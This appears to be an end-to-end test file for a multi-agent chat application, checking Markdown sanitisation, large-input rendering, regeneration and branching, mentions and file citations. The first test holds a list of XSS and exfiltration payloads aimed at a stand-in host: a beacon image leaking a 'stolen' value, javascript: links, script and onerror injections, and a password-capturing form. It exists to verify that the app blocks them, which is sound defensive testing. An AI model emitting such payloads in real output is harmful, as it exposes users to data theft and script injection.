import { expect } from 'chai'
import { by } from '../workers/party-world.ts'
import { line, log, send, useRooms, write } from './room-world.ts'

/** What a model may write to whoever reads it. */
const HOSTILE = [
  '# A heading',
  'An **honest** word, and [a link](https://example.com/page).',
  '![a picture](https://evil.example/beacon.png?stolen=secret) ![inline](data:image/png;base64,iVBORw0KGgo=)',
  '[press me](javascript:document.title="owned") [or me](data:text/html,<script>document.title="owned"</script>)',
  '<img src="https://evil.example/raw.png" onerror="document.title=\'owned\'"><script>document.title="owned"</script>',
  '<iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="password"></form>',
  '[page]: https://evil.example/reference',
  `${'> '.repeat(20)}quoted`,
  '`code` and\n\n```js\nfetch("https://evil.example/")\n```',
  '| a | b |\n| - | - |\n| <b>1</b> | 2 |',
].join('\n\n')

describe('Messages in the room', () => {
  const rooms = useRooms()

  it('are Markdown that fetches nothing, runs nothing, and breaks nothing', async () => {
    const { user, agentId, visitor } = await rooms.guests(['Ada'])
    const { page } = visitor
    rooms.llm.replyOnce({ text: HOSTILE, chunkSize: 7 })
    await rooms.watch(user, visitor, { agentId, message: 'Be evil.' })
    await log(page).getByRole('heading', { name: 'A heading' }).waitFor()
    await log(page).getByRole('table').waitFor()
    await line(page).getByText('Ada').waitFor({ state: 'detached' })
    const said = log(page).getByRole('article', { name: 'Ada' })
    expect(await said.locator('img, script, iframe, form, object, embed, style').count()).to.equal(0)
    const targets = await Promise.all((await said.locator('a').all()).map((link) => link.getAttribute('href')))
    expect(targets).to.deep.equal(['https://example.com/page', 'https://evil.example/beacon.png?stolen=secret'])
    for (const link of await said.locator('a').all()) {
      expect(await link.getAttribute('rel')).to.equal('noopener noreferrer nofollow ugc')
    }
    await said.getByText('<script>').waitFor()
    expect(await page.title()).not.to.include('owned')
    await visitor.check('room-markdown')
  })

  it('are shown as they were written where they would cost too much to read', async () => {
    const { user, agentId, visitor } = await rooms.guests(['Ada'])
    const { page } = visitor
    const { conversationId, runId } = await user.accept('/api/chat', { agentId, message: 'Go on.' })
    await user.finished(runId)
    const hostile = [
      'x'.repeat(1_000_000),
      '> '.repeat(20_000),
      '['.repeat(30_000),
      '*a _b '.repeat(5_000),
      '- '.repeat(9_000),
    ]
    for (const [n, content] of hostile.entries()) {
      await rooms.world.app.container.db.query(
        `INSERT INTO messages (id, conversation_id, seq, role, agent_id, agent_name, content, status)
         VALUES (gen_random_uuid(), $1, $2, 'agent', $3, 'Ada', $4, 'complete')`,
        [conversationId, n + 3, agentId, content],
      )
    }
    await rooms.world.app.container.db.query(
      'UPDATE conversations SET last_seq = $2, version = version + 1 WHERE id = $1',
      [conversationId, hostile.length + 2],
    )
    await visitor.open(`/c/${conversationId}`)
    await log(page).getByText('- - - -').waitFor()
    // The page lives: one can go on.
    rooms.llm.reply('Still here.')
    await write(page).fill('And now?')
    await send(page).click()
    await log(page).getByText('Still here.').waitFor()
    visitor.expectQuiet()
  })

  it('stand side by side where all answer at once, and are summed up', async () => {
    const { user, agentIds, visitor } = await rooms.guests(['Ada', 'Ben', 'Cora'])
    const { page } = visitor
    rooms.llm.reply({ text: 'Tea, because it is calm.', when: by('Ben') })
    rooms.llm.reply({ text: 'Water. It is enough.', when: by('Cora') })
    rooms.llm.reply({ text: 'Coffee, because it is quick.', when: by('Ada') })
    await rooms.watch(user, visitor, { agentIds, message: 'One drink each.', strategy: 'panel' })
    await log(page).getByText('Finished.').waitFor()
    const panel = log(page).getByRole('region', { name: '3 answers side by side' })
    expect(await panel.getByRole('article').count()).to.equal(3)
    const boxes = await Promise.all((await panel.getByRole('article').all()).map((one) => one.boundingBox()))
    expect(new Set(boxes.map((box) => box?.y)).size, 'they stand in one line').to.equal(1)
    expect(await log(page).getByRole('article', { name: 'Ada' }).count()).to.equal(2)
    await visitor.check('room-panel')
  })

  it('are said anew, edited, gone on from elsewhere, and judged', async () => {
    const { user, agentId, visitor } = await rooms.guests(['Ada'])
    const { page } = visitor
    rooms.llm.replyOnce('The first answer.').replyOnce('The second answer.').replyOnce('The third answer.')
    const { conversationId } = await rooms.watch(user, visitor, { agentId, message: 'Which one?' })
    await log(page).getByText('The first answer.').waitFor()
    await log(page).getByRole('button', { name: 'Say it anew' }).click()
    await log(page).getByText('The second answer.').waitFor()
    await log(page).getByText('The first answer.').waitFor({ state: 'detached' })
    await log(page).getByRole('button', { name: 'Edit and run again' }).click()
    await page.getByRole('textbox', { name: 'Your words' }).fill('Which one now?')
    await page.getByRole('button', { name: 'Run again' }).click()
    await log(page).getByText('The third answer.').waitFor()
    await log(page).getByText('Which one now?').waitFor()
    await page.getByRole('main').getByRole('button', { name: 'More', exact: true }).click()
    await page.getByRole('menuitem', { name: 'Show earlier words' }).click()
    await log(page).getByText('The first answer.').waitFor()

    const said = log(page).getByRole('article', { name: 'Ada' }).last()
    const kept = page.waitForResponse(/feedback/)
    await said.getByRole('button', { name: 'Good answer' }).click()
    await said.getByRole('button', { name: 'Good answer', pressed: true }).waitFor()
    await kept
    await page.reload()
    await log(page).getByRole('button', { name: 'Good answer', pressed: true }).click()
    await log(page).getByRole('button', { name: 'Good answer', pressed: false }).waitFor()
    await said.getByRole('button', { name: 'Go on from here in a new conversation' }).click()
    await page.getByText('Branch of another conversation').waitFor()
    expect(page.url()).not.to.include(conversationId)
    await log(page).getByText('The third answer.').waitFor()
    visitor.expectQuiet()
  })

  it('call somebody by name, chosen by keys', async () => {
    const { user, agentIds, visitor } = await rooms.guests(['Ada', 'Ben', 'Bea'])
    const { page } = visitor
    rooms.llm.reply('Yes?')
    await rooms.watch(user, visitor, { agentIds, message: 'Who is there?', strategy: 'mention', maxTurns: 1 })
    await log(page).getByText('Yes?').first().waitFor()
    await write(page).pressSequentially('Tell me, @b')
    await page.getByRole('option', { name: 'Ben', selected: true }).waitFor()
    await write(page).press('ArrowDown')
    await page.getByRole('option', { name: 'Bea', selected: true }).waitFor()
    await visitor.expectAccessible('names are offered')
    await write(page).press('Enter')
    expect(await write(page).inputValue()).to.equal('Tell me, @Bea ')
    await write(page).pressSequentially('@')
    await write(page).press('Escape')
    expect(await page.getByRole('option').count()).to.equal(0)
    visitor.expectQuiet()
  })

  it('bring files, seen becoming ready, taken away again, and cited', async () => {
    const { user, agentId, visitor } = await rooms.guests(['Ada'])
    const { page } = visitor
    rooms.llm.replyOnce('Hello.')
    await rooms.watch(user, visitor, { agentId, message: 'Hello?' })
    await log(page).getByText('Hello.').waitFor()
    const file = (name: string, text: string) => ({ name, mimeType: 'text/plain', buffer: Buffer.from(text) })
    const picker = page.locator('input[type=file]')
    await picker.setInputFiles([file('drinks.txt', 'Otto drinks nine cups a day.'), file('other.txt', 'Nothing.')])
    const files = page.getByRole('list', { name: 'Files' })
    await files.getByRole('listitem').filter({ hasText: 'drinks.txt' }).getByText('Ready').waitFor()
    await files.getByRole('listitem').filter({ hasText: 'other.txt' }).getByText('Ready').waitFor()
    await visitor.check('room-files')
    await page.getByRole('button', { name: 'Remove other.txt' }).click()
    rooms.llm.reply('Nine cups (drinks.txt, first line).')
    await write(page).fill('How many cups?')
    await send(page).click()
    await log(page).getByText('Nine cups').waitFor()
    expect(JSON.stringify(rooms.llm.requests.at(-1)?.body)).to.include('nine cups a day')
    await log(page).getByRole('list', { name: 'Cited passages' }).getByRole('button', { name: 'drinks.txt' }).waitFor()
    const opened = visitor.context.waitForEvent('page')
    await log(page).getByRole('article', { name: 'You' }).getByRole('button', { name: 'drinks.txt' }).click()
    const tab = await opened
    await tab.waitForURL(/\/download/)
    await tab.getByText('Otto drinks nine cups a day.').waitFor()
    visitor.expectQuiet()
  })
})
